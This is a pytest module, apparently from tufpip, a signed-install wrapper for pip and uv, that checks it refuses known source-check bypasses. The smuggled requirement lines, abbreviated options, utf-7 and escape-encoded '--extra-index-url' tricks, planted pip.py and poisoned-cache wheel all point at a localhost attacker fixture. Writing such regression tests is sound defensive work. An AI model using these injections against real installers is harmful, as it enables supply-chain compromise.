"""Ways around the source checks, each tried against a live attacker on 127.0.0.1.

Each class was a real bypass when tufpip checked the user's arguments with
its own reading of pip's and uv's grammars and then handed the originals to
the installer. Now the installer receives only what tufpip built, so each
attempt is refused before anything runs (exit 2 or 3, one line) or, where
the attempt is harmless to the canonical copy, installs the signed version.
In every case the attacker's server (the ``evil`` fixture: an index, a
find-links page and the wheel ``beta 9.9``) sees no request and nothing
unsigned is installed or run.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.attacks.attacker import AttackerServer
from tests.attacks.checks import Client, Mirror, assert_refused, installed, tree
from tests.attacks.conftest import EVIL_FILE, evil_server
from tests.support.distributions import make_wheel
from tests.support.environments import new_venv
from tufpip import loopback
from tufpip.client import Client as Library
from tufpip.index import VerifyingIndex
from tufpip.installer import Installer
from tufpip.session import Session
from tufpip.state import Home

INSTALLERS = ["pip", "uv"]


@pytest.fixture(scope="module")
def _shared(
    tmp_path_factory: pytest.TempPathFactory, pristine: Path
) -> Iterator[tuple[AttackerServer, Client, Path, AttackerServer]]:
    """One mirror, trusting client, empty environment and attacker for the tests whose
    attempt must be refused before anything runs: a refusal changes none of them, and
    each test shows it (environment unchanged, no request to the attacker)."""
    root = tmp_path_factory.mktemp("shared")
    workspace = Path(shutil.copytree(pristine, root / "repo", symlinks=True))
    with AttackerServer(workspace).running() as mirror, evil_server(root).running() as attacker:
        client = Client(root / "home", env={"XDG_CACHE_HOME": str(root / "cache")})
        root_json = workspace / "metadata" / "1.root.json"
        assert client("init", mirror.url, "--root", root_json).returncode == 0
        yield mirror, client, new_venv(root / "venv"), attacker


@dataclass
class Refusals:
    """The shared client, environment and attacker, and what every refusal must show."""

    client: Client
    venv: Path
    evil: AttackerServer

    def check(
        self,
        args: tuple[str, ...],
        code: int,
        words: tuple[str, ...] | str,
        installer: str,
        cwd: Path | None = None,
    ) -> None:
        """The install of ``args`` is refused with ``code`` and ``words``; the
        environment is unchanged and the attacker saw no request."""
        before = tree(self.venv)
        run = self.client.install(self.venv, *args, installer=installer, cwd=cwd)
        assert_refused(run, words, code=code)
        assert tree(self.venv) == before
        assert self.evil.requests == []


@pytest.fixture
def refusals(_shared: tuple[AttackerServer, Client, Path, AttackerServer]) -> Refusals:
    _, client, venv, attacker = _shared
    attacker.requests.clear()
    return Refusals(client, venv, attacker)


def _version(venv: Path, project: str) -> str | None:
    site = next(venv.glob("lib/python*/site-packages"))
    found = list(site.glob(f"{project}-*.dist-info"))
    return found[0].name.removesuffix(".dist-info").split("-")[1] if found else None


OPTION_DIFFERENTIALS = {
    # --upgrade was read as an abbreviation of --upgrade-strategy, whose value
    # (the URL) went unchecked; --pre as --prefix.
    "--upgrade URL": (["--upgrade", "{wheel}"], 3, "not a named requirement"),
    "--pre URL": (["--pre", "{wheel}"], 3, "not a named requirement"),
    "-U URL": (["-U", "{wheel}"], 3, "not a named requirement"),
    "--upgrade -r FILE": (["--upgrade", "-r", "{reqs}"], 3, "direct url"),
    "abbreviation": (["--upgr", "{wheel}"], 2, "abbreviated"),
    "abbreviated value option": (
        ["--upgrade-strat", "eager", "beta"],
        2,
        ("abbreviated", "not an option"),
    ),
    "abbreviated source": (["--extra-ind", "{index}", "beta"], 3, "package source"),
    "option the table lacks": (["--no-sources-package", "{wheel}"], 2, "not an option"),
    "installer's own --index": (["--index={index}", "beta"], 3, "package source"),
    "value that is a source": (["--only-binary", "{index}", "beta"], 2, "not a value"),
}


@pytest.mark.parametrize("installer", INSTALLERS)
@pytest.mark.parametrize("how", list(OPTION_DIFFERENTIALS))
def test_option_differentials(
    how: str,
    installer: str,
    refusals: Refusals,
    tmp_path: Path,
) -> None:
    args, code, words = OPTION_DIFFERENTIALS[how]
    reqs = tmp_path / "reqs.txt"
    reqs.write_text(f"beta @ {refusals.evil.url}/evil/{EVIL_FILE}\n")
    fields = {
        "wheel": f"{refusals.evil.url}/evil/{EVIL_FILE}",
        "reqs": reqs,
        "index": f"{refusals.evil.url}/simple/",
    }
    run_args = tuple(arg.format(**fields) for arg in args)
    refusals.check(run_args, code, words, installer)


def _fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


# Each: the file's bytes (``{index}``, ``{wheel}`` filled in), exit status, words.
FILE_DIFFERENTIALS: dict[str, tuple[bytes, int, str]] = {
    # pip decodes by the coding line; utf-7 "+AC0ALQ-" is "--".
    "coding utf-7": (
        b"# -*- coding: utf-7 -*-\n+AC0ALQ-extra-index-url {index}\nbeta\n",
        2,
        "coding",
    ),
    "coding unicode_escape": (
        b"# coding: unicode_escape\n\\x2d\\x2dextra-index-url {index}\nbeta\n",
        2,
        "coding",
    ),
    "UTF-16": ("--extra-index-url {index}\nbeta\n".encode("utf-16"), 2, "not utf-8"),
    # pip joins a comment ending in a backslash with the next line; uv does not.
    "comment ending in backslash": (
        b"beta # pinned \\\n--extra-index-url {index}\n",
        2,
        "backslash",
    ),
    "-r file:PATH": (b"-r file:{nested}\n", 3, "local paths only"),
    "-r URL": (b"-r {index}reqs.txt\n", 3, "local paths only"),
    "${VAR} empty": (b"beta${EMPTY}\n", 2, "not set or empty"),
    "${VAR} unset": (b"beta${UNSET_FOR_SURE}\n", 2, "not set or empty"),
    "form feed": (b"beta\x0c--extra-index-url {index}\n", 2, "control character"),
    # pip resolves --requirem uniquely; it also abbreviates uv's --requirements-from-script.
    "abbreviated --requirement": (b"--requirem {nested}\n", 3, "package source"),
    "abbreviated --constraint": (b"--constrain {nested}\nbeta\n", 2, "not an option"),
    "abbreviated source": (b"--extra-ind {index}\nbeta\n", 3, "package source"),
    "arbitrary equality": (b"beta===x/" + EVIL_FILE.encode() + b"\n", 3, "arbitrary equality"),
    "option after requirement": (b"beta --extra-index-url {index}\n", 3, "package source"),
}


@pytest.mark.parametrize("installer", INSTALLERS)
@pytest.mark.parametrize("how", list(FILE_DIFFERENTIALS))
def test_requirements_file_differentials(
    how: str,
    installer: str,
    refusals: Refusals,
    tmp_path: Path,
) -> None:
    data, code, words = FILE_DIFFERENTIALS[how]
    nested = tmp_path / "nested.txt"
    nested.write_text(f"--extra-index-url {refusals.evil.url}/simple/\nbeta\n")
    fields = {"index": f"{refusals.evil.url}/simple/", "nested": str(nested)}
    for key, value in fields.items():
        data = data.replace(f"{{{key}}}".encode(), value.encode())
    reqs = tmp_path / "reqs.txt"
    reqs.write_bytes(data)
    (tmp_path / "x").mkdir()
    make_wheel(tmp_path / "x", "beta", "9.9", body="OWNED = True\n")
    run = refusals.client.install(
        refusals.venv, "-r", reqs.name, installer=installer, cwd=tmp_path, env={"EMPTY": ""}
    )
    assert_refused(run, words, code=code)
    assert "beta" not in installed(refusals.venv)
    assert refusals.evil.requests == []


@pytest.mark.parametrize("installer", INSTALLERS)
def test_requirements_from_a_fifo_are_refused(
    installer: str, refusals: Refusals, tmp_path: Path
) -> None:
    """A FIFO could answer tufpip and the installer differently: only regular files."""
    fifo = _fifo(tmp_path / "reqs.txt")
    refusals.check(("-r", str(fifo)), 2, "not a regular file", installer)


@pytest.mark.parametrize("installer", INSTALLERS)
@pytest.mark.parametrize("name", ["script.py", "pyproject.toml", "setup.cfg"])
def test_project_files_are_not_requirements_files(
    name: str,
    installer: str,
    refusals: Refusals,
    tmp_path: Path,
) -> None:
    """uv reads dependencies from a ``.py`` (PEP 723) or ``pyproject.toml`` given to -r."""
    source = tmp_path / name
    deps = f'dependencies = ["beta @ {refusals.evil.url}/evil/{EVIL_FILE}"]'
    source.write_text(f"# /// script\n# {deps}\n# ///\n" if name.endswith(".py") else deps)
    refusals.check(("-r", str(source)), 2, "requirements files only", installer)


@pytest.mark.parametrize("installer", INSTALLERS)
def test_nested_file_through_a_symlink_is_read_where_the_installer_would(
    installer: str,
    refusals: Refusals,
    tmp_path: Path,
) -> None:
    """``link.txt -> sub/real.txt`` includes ``-r nested.txt``: pip reads the one next
    to the link, and so does tufpip (before, it read the harmless one next to the target)."""
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "real.txt").write_text("-r nested.txt\n")
    (tmp_path / "sub" / "nested.txt").write_text("beta\n")
    (tmp_path / "nested.txt").write_text(f"--extra-index-url {refusals.evil.url}/simple/\nbeta\n")
    (tmp_path / "link.txt").symlink_to(tmp_path / "sub" / "real.txt")
    refusals.check(("-r", str(tmp_path / "link.txt")), 3, "package source", installer)


@pytest.mark.parametrize("installer", INSTALLERS)
def test_arbitrary_equality_naming_a_local_wheel(
    installer: str,
    refusals: Refusals,
    tmp_path: Path,
) -> None:
    """``beta===x/beta-9.9-...whl``: a named requirement to a PEP 508 parser, a local
    wheel to pip when the folder ``x`` exists."""
    make_wheel(tmp_path / "x", "beta", "9.9", body="OWNED = True\n")
    refusals.check((f"beta===x/{EVIL_FILE}",), 3, "arbitrary equality", installer, cwd=tmp_path)


@pytest.mark.parametrize("where", ["current folder", "PYTHONPATH"])
def test_planted_pip_module_never_runs(
    where: str, evil: AttackerServer, client: Client, venv: Path, tmp_path: Path
) -> None:
    """A ``pip.py`` that leaves a marker if it ever runs: ``python -m pip`` would
    import it from the current folder, and any Python from ``PYTHONPATH``."""
    marker = tmp_path / "ran"
    planted = tmp_path / "planted"
    planted.mkdir()
    (planted / "pip.py").write_text(f"open({str(marker)!r}, 'w').write('RAN')\n")
    env = {"PYTHONPATH": str(planted)} if where == "PYTHONPATH" else {}
    run = client.install(
        venv, "beta", cwd=planted if where == "current folder" else tmp_path, env=env
    )
    assert run.returncode == 0, run.describe()
    assert _version(venv, "beta") == "1.0"
    assert not marker.exists()


def test_wheel_planted_in_the_users_pip_cache_is_not_used(
    mirror: Mirror, client: Client, venv: Path, tmp_path: Path
) -> None:
    """A wheel planted in the user's pip cache under the signed sdist's cache key
    (what pip would reuse instead of building the sdist) never reaches an install:
    tufpip gives pip a private cache of its own."""
    xdg = tmp_path / "xdg"
    port = Home(client.home).get().port
    sdist = "packages/lambda-pkg/lambda_pkg-1.0.tar.gz"
    sha256 = mirror.forger.target(sdist).hashes["sha256"]
    url = f"http://127.0.0.1:{port}/{sdist}#sha256={sha256}"
    key = subprocess.run(
        [
            sys.executable,
            "-c",
            "import sys; from pip._internal.cache import SimpleWheelCache;"
            "from pip._internal.models.link import Link;"
            "print(SimpleWheelCache(sys.argv[1]).get_path_for_link(Link(sys.argv[2])))",
            str(xdg / "pip"),
            url,
        ],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    make_wheel(Path(key), "lambda-pkg", "1.0", body="OWNED = True\n")

    run = client.install(venv, "lambda-pkg", env={"XDG_CACHE_HOME": str(xdg)})

    assert run.returncode == 0, run.describe()
    site = next(venv.glob("lib/python*/site-packages"))
    module = (site / "lambda_pkg" / "__init__.py").read_text()
    assert "FROM_SDIST = True" in module
    assert "OWNED" not in module


@pytest.mark.parametrize("installer", INSTALLERS)
@pytest.mark.parametrize("target", ["attacker", "https"])
def test_network_jail_holds_without_the_argument_checks(
    installer: str, target: str, evil: AttackerServer, client: Client, venv: Path, tmp_path: Path
) -> None:
    """The installer is run directly, its arguments unchecked, with a URL the checks
    would refuse and the user's NO_PROXY exempting everything: the verifying index,
    the only proxy it may use, refuses the request, and nothing is fetched."""
    url = {
        "attacker": f"{evil.url}/evil/{EVIL_FILE}",
        "https": "https://files.example.org/beta-9.9-py3-none-any.whl",
    }[target]
    repository = Library(Home(client.home)).repository
    environ = {**os.environ, "NO_PROXY": "*", "no_proxy": "*"}
    runner = Installer(installer, str(venv / "bin" / "python"), environ)  # type: ignore[arg-type]
    (tmp_path / "cwd").mkdir()
    with (
        loopback.listen(repository.port) as listener,
        Session(repository) as session,
        VerifyingIndex(listener, session) as index,
        runner.start("install", index.url, [url], cwd=tmp_path / "cwd") as process,
    ):
        status = process.wait(timeout=120)
    assert status != 0
    assert evil.requests == []
    assert "beta" not in installed(venv)
    assert any("outside the verified index" in str(failure) for failure in index.failures)
